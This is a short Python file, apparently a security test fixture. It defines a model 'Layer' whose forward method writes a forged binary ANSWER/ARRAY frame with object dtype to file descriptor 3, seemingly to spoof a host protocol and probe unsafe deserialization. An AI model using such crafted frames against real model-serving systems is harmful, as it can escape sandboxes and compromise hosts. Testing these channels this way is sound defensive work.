import os

from attack import Nothing, frames, nonce


class Layer(Nothing):
    def forward(self, inputs):
        head = frames.ANSWER.pack(frames.ARRAY_KIND, nonce(), 0)
        os.write(3, head + frames.ARRAY.pack(b"O8", 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 8) + b"y" + b"A" * 8)
